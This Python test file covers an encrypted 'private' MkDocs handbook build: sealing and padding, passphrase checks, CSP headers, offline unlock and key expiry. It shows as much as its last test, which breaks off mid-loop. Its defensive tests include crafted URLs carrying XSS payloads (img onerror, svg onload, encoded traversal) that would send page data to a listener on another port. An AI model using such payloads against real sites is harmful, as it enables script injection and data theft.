"""The private build: a locked site that leaks nothing of the notes, and that after one unlock
works in Chromium as the open one does — search, navigation, drill, PDF — also offline."""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pypdf
import pytest
from browser import chromium, static_server, type_search
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from playwright.sync_api import Browser, BrowserContext, Page, Request
from prep_handbook.private import (
    ITERATIONS,
    MAGIC,
    PassphraseError,
    check_passphrase,
    derive_key,
    generate_passphrase,
    inline_script_hashes,
    padded_length,
    page_policy,
    seal,
    unlock_page,
    unseal,
)
from sample import PACKAGE, ROOT, SHIPPED
from servekit import Server
from sitekit import article, build_site, copy_project, run_mkdocs, visible_text

PASSPHRASE = "gravel tinsel mammal overtake unsaddle"  # five words of the EFF list
SECOND = (ROOT / "tests" / "corpus" / "kestrel-health.md").read_bytes()
SECRETS = (
    # words and phrases of the two notes files, and the companies' names
    "traba",
    "kestrel",
    "supercomput",
    "OpenAI",
    "at Microsoft",
    "firecasting",
    "trojan horse",
    "contingent labor",
    "labor liquidity",
    "clinicians",
    "eligibility checks",
    "Portugal",
    "over-document",
    "bottlenecks to growth",
)


# Hand-written files beside the notes: a page and a PDF under docs/assets/ (once published in
# plain because of the folder they are in), and the host's own files.
OWN = "Lumenfold"  # a word only in those files
HAND_WRITTEN = {
    "assets/salary.md": f"# Offer notes\n\nBase target 185k, equity refresh at {OWN}.\n\n"
    "![their logo](https://cdn.example.com/logo.png)\n",
    "assets/offer.pdf": f"%PDF-1.4\n% {OWN} offer letter\n%%EOF\n",
    "CNAME": "handbook.example.org\n",
    "robots.txt": "User-agent: *\nDisallow: /\n",
}


def _project(base: Path, private: bool) -> Path:
    project = copy_project(
        base, {"traba-preparation.md": SHIPPED.read_bytes(), "kestrel.md": SECOND}
    )
    for name, text in HAND_WRITTEN.items():
        (project / "docs" / name).write_text(text, "utf-8")
    if private:
        _go_private(project)
    return project


def _go_private(project: Path) -> None:
    config = project / "mkdocs.yml"
    text = config.read_text("utf-8").replace(
        "    paper: letter", "    private: true\n    paper: letter"
    )
    config.write_text(text, "utf-8")


def _notes_in(folder: Path) -> list[str]:
    """Every word of the notes found in any byte of any file (or file name) under ``folder``."""
    found = []
    for path in (p for p in folder.rglob("*") if p.is_file()):
        rel = path.relative_to(folder).as_posix()
        text = path.read_bytes().decode("latin-1").lower()
        found += [f"{s!r} in {rel}" for s in SECRETS if s.lower() in text or s.lower() in rel]
    return found


def _mkdocs(project: Path, passphrase: str | None) -> subprocess.CompletedProcess[str]:
    env = {} if passphrase is None else {"PREP_HANDBOOK_PASSPHRASE": passphrase}
    return run_mkdocs(project, "build", env=env)


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("private")
    open_project = _project(base / "open", private=False)
    assert _mkdocs(open_project, None).returncode == 0
    locked_project = _project(base / "locked", private=True)
    result = _mkdocs(locked_project, PASSPHRASE)
    assert result.returncode == 0, result.stderr
    assert "private: locked 17 pages and 9 other files" in result.stderr
    (base / "locked.log").write_text(result.stderr, "utf-8")
    return {
        "open": open_project / "site",
        "locked": locked_project / "site",
        "log": base / "locked.log",
        "project": locked_project,
    }


# --- what is on the host -------------------------------------------------------------------


@pytest.mark.site
def test_every_served_byte_is_free_of_the_notes(sites: dict[str, Path]) -> None:
    open_text = "\n".join(
        p.read_bytes().decode("utf-8", "replace")
        for p in sites["open"].rglob("*")
        if p.is_file() and not p.relative_to(sites["open"]).as_posix().startswith("assets/")
    )
    for secret in SECRETS:
        assert secret.lower() in open_text.lower(), f"{secret!r} is not in the notes"
    for path in (p for p in sites["locked"].rglob("*") if p.is_file()):
        rel = path.relative_to(sites["locked"]).as_posix()
        text = path.read_bytes().decode("latin-1").lower()
        for secret in (*SECRETS, OWN):
            assert secret.lower() not in text, f"{secret!r} in {rel}"
            assert secret.lower() not in rel.lower(), f"{secret!r} in the path {rel}"
        if rel.endswith(".pdf"):
            assert path.read_bytes().startswith(MAGIC)  # no PDF to read, only ciphertext


@pytest.mark.site
def test_locked_files_decrypt_with_python_byte_by_byte(sites: dict[str, Path]) -> None:
    locked = sites["locked"]
    lock = json.loads((locked / "assets/lock/lock.json").read_text("utf-8"))
    assert lock["iterations"] == ITERATIONS >= 600_000
    assert len(base64.b64decode(lock["salt"])) == 16
    key = derive_key(PASSPHRASE, base64.b64decode(lock["salt"]))
    sealed = [p for p in locked.rglob("*") if p.is_file() and p.read_bytes()[:4] == MAGIC]
    plain: dict[str, bytes] = {}
    for path in sealed:
        blob = path.read_bytes()
        rel = path.relative_to(locked).as_posix()
        rel = rel.removesuffix(".enc") if rel.endswith(".html.enc") else rel
        padded = AESGCM(key).decrypt(blob[4:16], blob[16:], rel.encode())
        plain[rel] = padded[: padded.rindex(b"\x80")]
        assert padded[len(plain[rel]) + 1 :] == bytes(len(padded) - len(plain[rel]) - 1)
        assert len(blob) == 4 + 12 + padded_length(len(plain[rel]) + 1) + 16
        with pytest.raises(InvalidTag):  # the same bytes claimed for another path
            AESGCM(key).decrypt(blob[4:16], blob[16:], b"x/" + rel.encode())
    assert len({p.read_bytes()[4:16] for p in sealed}) == len(sealed)  # a nonce per file
    pdf = pypdf.PdfReader(io.BytesIO(plain["notes-2/one-pager.pdf"]))
    assert len(pdf.pages) == 1 and "I joined Microsoft" in pdf.pages[0].extract_text()
    index = json.loads(plain["search/search_index.json"])
    assert any("firecasting" in d["text"] for d in index["docs"])
    assert json.loads(plain["notes-1/source-map.json"])["company"] == "Kestrel"
    page = plain["notes-2/questions/index.html"]
    assert b"bottlenecks to growth" in page and b"lockbutton.js" in page
    # history and tab lists keep titles: every locked page has the same neutral one
    assert re.findall(rb"<title>.*?</title>", page) == [b"<title>Handbook</title>"]
    assert b'<meta name="referrer" content="no-referrer">' in page
    listing = json.loads(plain["assets/lock/files.enc"])
    assert "notes-2/questions/index.html" in listing["sealed"]
    for rel, digest in listing["plain"].items():  # what the worker checks each plain file by
        assert (
            base64.b64encode(hashlib.sha256((locked / rel).read_bytes()).digest()).decode()
            == digest
        )
    signed = json.loads(unseal(key, "assets/lock/lock.json", base64.b64decode(lock["check"])))
    assert signed == {k: lock[k] for k in ("iterations", "remember_days", "salt")}
    assert lock["version"] == 2 and lock["remember_days"] == 30
    assert (
        unseal(
            key,
            "notes-2/questions/index.html",
            (locked / "notes-2/questions/index.html.enc").read_bytes(),
        )
        == page
    )


@pytest.mark.site
def test_only_the_theme_and_named_files_stay_plain_and_the_log_says_which(
    sites: dict[str, Path],
) -> None:
    """A page or PDF under docs/assets/ is sealed like the notes; the theme's files stay
    plain (byte-identical to the installed theme's), and so do the files mkdocs.yml names and
    the host's own (CNAME, robots.txt), each listed in the log."""
    import material

    locked, log = sites["locked"], sites["log"].read_text("utf-8")
    theme = Path(material.__file__).parent / "templates"
    assert (locked / "assets/salary/index.html.enc").read_bytes()[:4] == MAGIC
    assert (locked / "assets/offer.pdf").read_bytes()[:4] == MAGIC
    assert "Locked handbook" in (locked / "assets/salary/index.html").read_text("utf-8")
    bundle = next(locked.glob("assets/javascripts/bundle.*.min.js"))
    assert bundle.read_bytes() == (theme / bundle.relative_to(locked)).read_bytes()
    assert (locked / "CNAME").read_text() == "handbook.example.org\n"  # a custom domain works
    assert (locked / "robots.txt").read_text().startswith("User-agent")
    kept = (
        "private: also plain (named in mkdocs.yml, or for the host): CNAME, assets/handbook.css, "
        "assets/handbook.js, assets/prep-handbook/one-pager.css, "
        "assets/prep-handbook/rehearse.css, assets/prep-handbook/rehearse.js, robots.txt"
    )
    assert kept in log
    for path in (p for p in locked.rglob("*") if p.is_file()):
        rel = path.relative_to(locked).as_posix()
        if path.read_bytes()[:4] != MAGIC and not rel.startswith("assets/lock/"):
            from_theme = (theme / rel).is_file() and (theme / rel).read_bytes() == path.read_bytes()
            assert (
                from_theme
                or rel in kept
                or rel == "sw.js"
                or "Locked handbook" in path.read_text("utf-8")
            ), rel


@pytest.mark.site
def test_the_log_gives_the_scripts_fingerprints_and_warns_of_remote_images(
    sites: dict[str, Path],
) -> None:
    log, locked = sites["log"].read_text("utf-8"), sites["locked"]
    line = next(x for x in log.splitlines() if "SHA-256 of the lock's scripts" in x)
    for rel in ("sw.js", "assets/lock/lockcore.js", "assets/lock/unlock.js"):
        assert f"{rel} {hashlib.sha256((locked / rel).read_bytes()).hexdigest()}" in line
    warning = next(x for x in log.splitlines() if "load from another site" in x)
    assert warning.startswith("WARNING") and "https://cdn.example.com/logo.png" in warning


def test_seal_layout_and_tampering() -> None:
    key = bytes(range(32))
    nonce = bytes(12)
    blob = seal(key, "a/index.html", b"hello", nonce)
    assert blob[:4] == b"PHB2" and blob[4:16] == nonce and len(blob) == 16 + 256 + 16
    padded = b"hello\x80" + bytes(250)
    assert blob[16:] == AESGCM(key).encrypt(nonce, padded, b"a/index.html")
    assert unseal(key, "a/index.html", blob) == b"hello"
    for i in range(4, len(blob)):  # any one byte flipped after the magic is refused
        broken = bytearray(blob)
        broken[i] ^= 0x01
        with pytest.raises(InvalidTag):
            unseal(key, "a/index.html", bytes(broken))


@pytest.mark.parametrize("size", [0, 1, 255, 256, 257, 1000, 4096, 4097, 65_537, 1_000_003])
def test_sizes_are_padded_to_few_buckets(size: int) -> None:
    """Padmé: at most 12 % more, and many sizes share one padded size (so a page's length
    says little about how much it holds); the padding comes off exactly."""
    padded = padded_length(size)
    assert max(size, 256) <= padded <= max(size, 256) * 1.12
    assert padded_length(padded) == padded
    data = bytes([7]) * size
    assert unseal(bytes(32), "p", seal(bytes(32), "p", data, bytes(12))) == data
    assert len({padded_length(n) for n in range(4096, 8192)}) == 17  # 4,096 sizes → 17


def test_page_policy_allows_the_built_inline_scripts_and_nothing_else() -> None:
    html = (
        "<script>var a = 1 < 2;</script><script src='x.js'></script>"
        '<script type="application/json">{"not": "run"}</script>'
        '<script type="module">import "./m.js";</script><p onclick="no()">x</p>'
    )
    digest = {
        base64.b64encode(hashlib.sha256(t.encode()).digest()).decode()
        for t in ("var a = 1 < 2;", 'import "./m.js";')
    }
    assert inline_script_hashes(html) == digest
    policy = page_policy(digest)
    assert policy.startswith("default-src 'self'; script-src 'self' 'sha256-")
    assert all(f"'sha256-{d}'" in policy for d in digest)
    assert "object-src 'none'; base-uri 'none'" in policy and "unsafe" not in policy
    unlock = unlock_page("../")
    style = unlock[unlock.index("<style>") + 7 : unlock.index("</style>")]
    style_hash = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert f"style-src 'sha256-{style_hash}'" in unlock and "<script>" not in unlock


@pytest.mark.parametrize(
    ("weak", "why"),
    [
        (None, "is not set"),
        ("", "is not set"),
        ("hunter2", "a very common password"),
        # 16 characters, 6 distinct, all accepted by the length rule this replaces (issue 25)
        ("iloveyouiloveyou", "repeats"),
        ("password12345678", "commonly used password"),
        ("1234567890123456", "commonly used password"),
        ("qwertyuiopasdfgh", "commonly used password"),
        # the README's own example, however written
        ("correct horse battery staple", "a famous phrase"),
        ("Correct-Horse-Battery-Staple!", "a famous phrase"),
        ("the quick brown fox jumps over the lazy dog", "a famous phrase"),
        # built on what the notes are about
        ("traba kestrel interview handbooks", "a name from the notes or the site"),
    ],
)
def test_weak_passphrases_are_refused_in_one_line_saying_why(weak: str | None, why: str) -> None:
    with pytest.raises(PassphraseError) as refused:
        check_passphrase(weak, ["Traba", "Kestrel", "Interview handbooks"])
    message = str(refused.value)
    assert why in message and "\n" not in message
    if weak:
        assert "guesses find it; at least 10^14 are needed" in message


def test_five_random_common_words_are_accepted_and_one_is_offered() -> None:
    """Five words drawn from the EFF list (fixed draws, so the test is the same each run):
    zxcvbn scores them at 10^16 and more (measured: 300 random draws, none below 10^14)."""
    words = (PACKAGE / "data/eff_large_wordlist.txt").read_text().split()
    assert len(set(words)) == 7776
    draw = random.Random(25)
    for _ in range(40):
        five = " ".join(draw.choice(words) for _ in range(5))
        assert check_passphrase(five, ["Traba", "Kestrel"]) == five
    offered = generate_passphrase()
    assert len(offered.split()) == 6 and set(offered.split()) <= set(words)
    assert check_passphrase(offered) == offered and generate_passphrase() != offered


@pytest.mark.parametrize("passphrase", [None, "hunter2"])
@pytest.mark.site
def test_no_or_short_passphrase_fails_in_one_line_and_writes_no_notes(
    tmp_path: Path, passphrase: str | None
) -> None:
    project = _project(tmp_path / "p", private=True)
    result = _mkdocs(project, passphrase)
    assert result.returncode == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("ERROR")]
    assert len(errors) == 1 and "PREP_HANDBOOK_PASSPHRASE" in errors[0]
    # a generated passphrase is offered only in a terminal: a CI log may be public
    assert errors[0].endswith("; `python -m prep_handbook.private` makes one")
    assert "Traceback" not in result.stderr
    assert not (project / "site").exists()


@pytest.mark.site
def test_a_failed_private_build_leaves_no_readable_notes_in_site(tmp_path: Path) -> None:
    """A plain build, then private: true and a build that fails (no passphrase, a weak one):
    the plain site must not stay there to be uploaded. A locked build is kept as it is."""
    project = _project(tmp_path / "p", private=False)
    site = project / "site"
    assert _mkdocs(project, None).returncode == 0
    assert len(_notes_in(site)) > 10  # the plain build is full of the notes
    _go_private(project)
    result = _mkdocs(project, None)
    errors = [line for line in result.stderr.splitlines() if line.startswith("ERROR")]
    assert result.returncode == 1 and len(errors) == 1, result.stderr
    assert "PREP_HANDBOOK_PASSPHRASE is not set" in errors[0]
    assert "held an unlocked build and was removed, so no notes stay readable there" in errors[0]
    assert not site.exists()
    assert _mkdocs(project, PASSPHRASE).returncode == 0
    locked = sorted(p.relative_to(site) for p in site.rglob("*"))
    result = _mkdocs(project, "hunter2")
    assert result.returncode == 1 and "was removed" not in result.stderr
    assert sorted(p.relative_to(site) for p in site.rglob("*")) == locked
    assert not _notes_in(site)
    assert not list(site.parent.glob(".site-*"))  # no staging folder left beside it


@pytest.mark.site
def test_a_lock_that_fails_part_way_leaves_no_plain_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The plain site is written into a private temporary folder, locked there, and only then
    swapped in: a failure in the middle of locking leaves site/ as it was, and no plain copy."""
    import prep_handbook.private as private

    project = _project(tmp_path / "p", private=False)
    site = project / "site"
    assert _mkdocs(project, None).returncode == 0
    _go_private(project)
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    monkeypatch.setenv("PREP_HANDBOOK_PASSPHRASE", PASSPHRASE)
    sealed: list[str] = []
    real_seal = private.seal

    def failing_seal(key: bytes, path: str, data: bytes, nonce: bytes) -> bytes:
        sealed.append(path)
        if len(sealed) == 6:
            raise OSError(28, "No space left on device")
        return real_seal(key, path, data, nonce)

    monkeypatch.setattr(private, "seal", failing_seal)
    with pytest.raises(OSError, match="No space left"):
        build_site(project)
    assert len(sealed) == 6
    assert not site.exists()  # the earlier plain build: removed before anything was built
    assert not list(temporary.iterdir())  # the half-locked folder is gone too
    monkeypatch.setattr(private, "seal", real_seal)
    build_site(project, strict=False)  # strict: the remote image's warning would abort
    assert (site / "assets/lock/lock.json").is_file() and not _notes_in(site)
    assert not list(temporary.iterdir()) and not list(project.glob(".site-*"))


def _gh_deploy(project: Path, *args: str, passphrase: str | None = None) -> str:
    """`mkdocs gh-deploy` in a repository with no remote: nothing can be pushed anywhere."""
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    env = {"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin", "HOME": str(project.parent)}
    if passphrase:
        env["PREP_HANDBOOK_PASSPHRASE"] = passphrase
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "gh-deploy", "--ignore-version", *args],
        cwd=project,
        capture_output=True,
        text=True,
        timeout=300,
        stdin=subprocess.DEVNULL,
        env=env,
    )
    return result.stderr


@pytest.mark.site
def test_gh_deploy_of_an_open_build_warns(tmp_path: Path) -> None:
    log = _gh_deploy(_project(tmp_path / "p", private=False))
    warnings = [line for line in log.splitlines() if "publishes this handbook" in line]
    assert len(warnings) == 1 and warnings[0].startswith("WARNING"), log
    assert "unlocked: anyone with the address can read the notes" in warnings[0]
    assert "--no-history" not in log


@pytest.mark.parametrize("args", [(), ("--no-history",)])
@pytest.mark.site
def test_a_private_gh_deploy_recommends_no_history(tmp_path: Path, args: tuple[str, ...]) -> None:
    log = _gh_deploy(_project(tmp_path / "p", private=True), *args, passphrase=PASSPHRASE)
    assert "private: locked" in log and "publishes this handbook" not in log
    tip = "keeps every earlier build in the gh-pages history"
    assert (tip in log) is (not args), log


# --- in the browser ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as b:
        yield b


def _unlock(page: Page, url: str, passphrase: str = PASSPHRASE) -> None:
    page.goto(url)
    page.fill("#passphrase", passphrase)
    page.click("button[type=submit]")


def _unlocked_at(page: Page, url: str, passphrase: str = PASSPHRASE) -> None:
    """Unlock at ``url`` and wait for the page the worker then serves."""
    _unlock(page, url, passphrase)
    page.wait_for_selector("article", timeout=30_000)


@contextmanager
def _visiting(browser: Browser, site: Path) -> Iterator[tuple[Page, str]]:
    """A page in a fresh profile (its own storage, worker and caches) on ``site``, served on
    127.0.0.1; yields the page and the site's address."""
    with static_server(site) as url:
        context = browser.new_context()
        try:
            yield context.new_page(), url
        finally:
            context.close()


def _article(page: Page) -> str:
    return visible_text(article(page.content()))


@pytest.fixture
def unlocked(sites: dict[str, Path], browser: Browser) -> Iterator[tuple[BrowserContext, str]]:
    with static_server(sites["locked"]) as url:
        context = browser.new_context(viewport={"width": 390, "height": 844})
        page = context.new_page()
        _unlocked_at(page, url + "notes-2/")
        page.close()
        try:
            yield context, url
        finally:
            context.close()


@pytest.mark.browser
@pytest.mark.site
def test_locked_page_shows_no_notes_and_a_wrong_passphrase_unlocks_nothing(
    sites: dict[str, Path], browser: Browser
) -> None:
    with _visiting(browser, sites["locked"]) as (page, url):
        _unlock(page, url + "notes-2/questions/", "not the passphrase at all")
        page.wait_for_selector("#status.bad")
        assert "Wrong passphrase" in page.inner_text("#status")
        body = page.inner_text("body")
        assert not any(s.lower() in body.lower() for s in SECRETS)
        assert page.evaluate("navigator.serviceWorker.controller") is None or "Locked" in body


@pytest.mark.browser
@pytest.mark.site
def test_after_unlock_every_page_reads_as_the_open_build(
    sites: dict[str, Path], browser: Browser, unlocked: tuple[BrowserContext, str]
) -> None:
    context, url = unlocked
    page = context.new_page()
    kinds = ("", "narrative/", "mapping/", "ops-model/", "questions/", "drill/", "one-pager/")
    with static_server(sites["open"]) as open_url:
        plain = browser.new_page()
        for slug, neutral in (("kestrel", "notes-1"), ("traba", "notes-2")):  # file-name order
            for kind in kinds:
                page.goto(f"{url}{neutral}/{kind}")
                plain.goto(f"{open_url}{slug}/{kind}")
                locked = page.inner_text("article")
                opened = plain.inner_text("article")
                assert locked.split() == opened.split(), f"{neutral}/{kind}"
        plain.close()
    assert page.locator(".site-lock-button").count() == 1
    page.close()


@pytest.mark.browser
@pytest.mark.site
def test_search_navigation_drill_and_pdf_work_offline_then_online(
    unlocked: tuple[BrowserContext, str],
) -> None:
    """Offline first, right after the unlock: no page below was opened before, so everything
    comes from what the unlock saved on the device."""
    context, url = unlocked
    page = context.new_page()
    for offline in (True, False):
        context.set_offline(offline)
        page.goto(url + "notes-2/")
        page.reload()
        page.wait_for_selector("article")
        page.goto(url + "notes-1/questions/")
        assert "How big are your teams?" in _article(page)
        page.goto(url + "notes-2/")
        # search for a word of the notes: the result links to the right page
        type_search(page, "forecasting")
        result = page.locator(".md-search-result__item a[href*='notes-2/ops-model/']").first
        result.wait_for(state="visible", timeout=15_000)
        result.click()
        page.wait_for_url("**/notes-2/ops-model/**")
        assert "demand forecasting" in _article(page)
        # navigation by a link on the page
        page.goto(url + "notes-2/")
        page.click("article a[href='questions/']")
        page.wait_for_url(re.compile(r".*/notes-2/questions/$"))
        assert "biggest bottlenecks to growth?" in _article(page)
        # the drill: tap to reveal
        page.goto(url + "notes-2/drill/")
        page.wait_for_selector("article")
        page.click("text=Show answer")  # the first card: the pitch, "Tell me about yourself"
        assert "I joined Microsoft" in page.inner_text("article")
        # the PDF, decrypted on the way
        head = page.evaluate(
            "fetch('../one-pager.pdf').then(r => r.arrayBuffer())"
            ".then(b => String.fromCharCode(...new Uint8Array(b).slice(0, 5)))"
        )
        assert head == "%PDF-", offline
    context.set_offline(False)
    page.close()


@pytest.mark.browser
@pytest.mark.site
def test_lock_forgets_the_key_on_this_device(unlocked: tuple[BrowserContext, str]) -> None:
    context, url = unlocked
    page = context.new_page()
    page.goto(url + "notes-2/")
    page.click(".site-lock-button")
    page.wait_for_selector("#passphrase")
    assert "Locked handbook" in page.inner_text("h1")
    page.goto(url + "notes-2/questions/")
    page.wait_for_selector("#passphrase")
    assert "bottlenecks" not in page.content()
    page.close()


# A crafted link, opened on a device that unlocked once, must run nothing: the worker can read
# every note, so script on this origin could send them anywhere. Each address below carries a
# payload that, if it ran, would set a flag, open a dialog and send a request to another port.
_PAYLOAD = (  # no "/" of its own, so that it also reaches the worker as one path segment
    "s=String.fromCharCode(47);fetch('http:'+s+s+'127.0.0.1:{port}'+s+document.title);"
    "window.__pwned=1;alert(1)"
)
_CRAFTED = (
    # encoded "?" and "#": once turned into a real query or fragment by a decoding worker
    "notes-2/questions/index.html%3F%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
    "notes-2/questions/index.html%23%3Csvg%20onload%3D{js}%3E",
    "notes-2/questions/%3F%3Csvg%2Fonload%3D{js}%3E/",
    # an encoded "/" and a climb out of the folder
    "notes-2%2Fquestions%2F%3Cimg%20src%3Dx%20onerror%3D{js}%3E",
    "notes-2/%2e%2e%2f%2e%2e%2fassets%2Flock%2F%3Csvg%20onload%3D{js}%3E",
    # quotes to close an attribute, markup in a folder name and in a file name
    "notes-2/%22%27%3E%3Cimg%20src%3Dx%20onerror%3D{js}%3E/",
    "%3Csvg%20onload%3D{js}%3E/",
    "notes-2/questions/%3Cimg%20src%3Dx%20onerror%3D{js}%3E.html",
    "notes-2/questions/%3Csvg%20onload%3D{js}%3E.svg",
    # the same, unencoded, as a browser sends what is typed or linked
    "notes-2/<img src=x onerror={js}>/",
    # a real query and fragment on a real page
    "notes-2/questions/?q=%3Cimg%20src%3Dx%20onerror%3D{js}%3E#%3Csvg%20onload%3D{js}%3E",
)


@contextmanager
def _listening() -> Iterator[tuple[str, list[str]]]:
    """Another origin (a port of its own) that records every request it gets."""
    heard: list[str] = []

    class Ear(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield str(server.server_address[1]), heard
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("crafted", _CRAFTED)
@pytest.mark.browser
@pytest.mark.site
def test_a_crafted_address_runs_no_script_after_an_unlock(
    unlocked: tuple[BrowserContext, str], crafted: str
) -> None:
    context, url = unlocked
    with _listening() as (port, heard):
        js = urllib.parse.quote(_PAYLOAD.format(port=port), safe="")
        address = url + crafted.format(js=js)
        requests: list[str] = []

        def record(request: Request) -> None:
            requests.append(request.url)

        context.on("request", record)
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        response = page.goto(address)
        page.wait_for_load_state("load")
        assert response is not None  # what the worker answered carries a policy
        if re.search(r"%(2f|3f|23)", crafted, re.IGNORECASE):  # refused, not looked up
            assert response.status == 400, crafted
        assert response.all_headers()["content-security-policy"].startswith(
            ("sandbox; default-src 'none'", "default-src 'self'; script-src 'self'")
        ), crafted
        page.wait_for_timeout(500)  # an onerror or a fetch would have fired by now
        pwned = page.evaluate("window.__pwned")
        body = page.content()
        page.close()
        context.remove_listener("request", record)
    assert pwned is None and not dialogs and not heard, (crafted, body[:300])
    foreign = [r for r in requests if not r.startswith(url) and not r.startswith("data:")]
    assert not foreign, foreign
    assert "<img src=x" not in body.lower() and "<svg onload" not in body.lower()


@pytest.mark.browser
@pytest.mark.site
def test_worker_responses_carry_a_policy_and_files_are_sandboxed(
    unlocked: tuple[BrowserContext, str],
) -> None:
    """Every page the worker decrypts has the build's policy (scripts: its own files and the
    theme's inline scripts by hash); any other decrypted file a sandbox, and no page breaks it."""
    context, url = unlocked
    page = context.new_page()
    violations: list[str] = []
    page.on(
        "console",
        lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None,
    )
    heads = {}
    for path in ("notes-2/questions/", "notes-1/", "no-such/page/"):
        response = page.goto(url + path)
        assert response is not None
        heads[path] = response.all_headers()
        page.wait_for_selector("article")
    bundle = page.evaluate("[...document.scripts].map(s => s.src).find(s => s.includes('bundle'))")
    heads["bundle"] = dict(page.evaluate(f"fetch('{bundle}').then(r => [...r.headers])"))
    for path in ("notes-2/one-pager.pdf", "notes-1/source-map.json", "search/search_index.json"):
        heads[path] = dict(
            page.evaluate(f"fetch('{url}{path}').then(r => [...r.headers])")  # as decrypted
        )
    page.goto(url + "notes-2/")
    type_search(page, "forecasting")  # the search worker and its index run under the policy
    page.locator(".md-search-result__item").first.wait_for(state="visible", timeout=15_000)
    page.close()
    for path in ("notes-2/questions/", "notes-1/", "no-such/page/", "bundle"):
        policy = heads[path]["content-security-policy"]
        assert "default-src 'self'" in policy and "object-src 'none'" in policy, path
        assert "base-uri 'none'" in policy and "img-src 'self' data:" in policy
        assert re.search(r"script-src 'self'( 'sha256-[A-Za-z0-9+/=]{44}')+;", policy)
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
    for path in ("notes-2/one-pager.pdf", "notes-1/source-map.json", "search/search_index.json"):
        assert heads[path]["content-security-policy"].startswith("sandbox;"), path
        assert heads[path]["x-content-type-options"] == "nosniff"
    assert not violations, violations


def _stored_key(page: Page, set_expires: int | None = None) -> dict[str, object]:
    """The key entry this site keeps in IndexedDB (its expiry; the salt), optionally changed."""
    return page.evaluate(  # type: ignore[no-any-return]
        """async (setExpires) => {
          const db = await new Promise((ok, no) => {
            const r = indexedDB.open(self.siteLock ? "site-lock:" + self.siteLock.root.pathname
                                                  : "", 1);
            r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error);
          });
          const tx = db.transaction("keys", "readwrite");
          const store = tx.objectStore("keys");
          const entry = await new Promise((ok) => { const g = store.get("key");
                                                   g.onsuccess = () => ok(g.result); });
          if (setExpires !== null) { entry.expires = setExpires; store.put(entry, "key"); }
          await new Promise((ok) => { tx.oncomplete = ok; });
          db.close();
          return {expires: entry.expires, salt: entry.salt, now: Date.now(),
                  databases: (await indexedDB.databases()).map((d) => d.name)};
        }""",
        set_expires,
    )


@pytest.mark.browser
@pytest.mark.site
def test_the_key_expires_and_unticking_remember_keeps_it_an_hour(
    sites: dict[str, Path], browser: Browser
) -> None:
    with _visiting(browser, sites["locked"]) as (page, url):
        page.goto(url + "notes-2/")
        page.fill("#passphrase", PASSPHRASE)
        page.uncheck("#remember")
        page.click("button[type=submit]")
        page.wait_for_selector("article", timeout=30_000)
        entry = _stored_key(page)
        hour = int(entry["expires"]) - int(entry["now"])  # type: ignore[call-overload]
        assert 3_590_000 < hour <= 3_600_000
        assert entry["databases"] == ["site-lock:/"]  # named after the site's folder
        _stored_key(page, set_expires=int(entry["now"]) - 1)  # type: ignore[call-overload]
        page.goto(url + "notes-2/questions/")
        page.wait_for_selector("#status.bad")
        assert "expired and was forgotten" in page.inner_text("#status")
        assert "bottlenecks" not in page.content()
        _unlocked_at(page, url + "notes-2/")  # ticked: the configured days (30)
        entry = _stored_key(page)
        days = (int(entry["expires"]) - int(entry["now"])) / 86_400_000  # type: ignore[call-overload]
        assert 29.99 < days <= 30


@pytest.mark.browser
@pytest.mark.site
def test_lock_in_one_tab_locks_the_others(unlocked: tuple[BrowserContext, str]) -> None:
    context, url = unlocked
    first, second = context.new_page(), context.new_page()
    first.goto(url + "notes-2/questions/")
    second.goto(url + "notes-1/")
    second.wait_for_selector("article")
    first.click(".site-lock-button")
    second.wait_for_selector("#passphrase", timeout=15_000)  # it reloaded by itself
    assert "Locked handbook" in second.inner_text("h1")
    assert "Kestrel" not in second.content()
    first.close()
    second.close()


@pytest.mark.browser
@pytest.mark.site
def test_two_locked_sites_on_one_host_keep_their_keys_apart(
    sites: dict[str, Path], browser: Browser, tmp_path: Path
) -> None:
    """As two project sites under one github.io name: locking one leaves the other open."""
    for folder in ("one", "two"):
        shutil.copytree(sites["locked"], tmp_path / folder)
    with _visiting(browser, tmp_path) as (page, url):
        for folder in ("one", "two"):
            _unlocked_at(page, f"{url}{folder}/notes-2/")
        databases = _stored_key(page)["databases"]
        assert sorted(databases) == ["site-lock:/one/", "site-lock:/two/"]  # type: ignore[arg-type]
        page.click(".site-lock-button")  # in two
        page.wait_for_selector("#passphrase")
        page.goto(f"{url}one/notes-2/questions/")
        page.wait_for_selector("article")
        assert "bottlenecks to growth" in _article(page)
        page.goto(f"{url}two/notes-2/questions/")
        page.wait_for_selector("#passphrase")


@pytest.mark.browser
@pytest.mark.site
def test_after_a_new_build_an_unlocked_device_asks_to_unlock_again(
    sites: dict[str, Path], browser: Browser, tmp_path: Path
) -> None:
    """Published again (a new salt; here a new passphrase too): the device does not show the
    old notes, nor a tamper warning; it forgets the old key and copy and asks again."""
    served = tmp_path / "served"
    shutil.copytree(sites["locked"], served)
    day_old = time.time() - 86_400  # so the browser's HTTP cache deems them fresh for hours
    for path in served.rglob("*"):
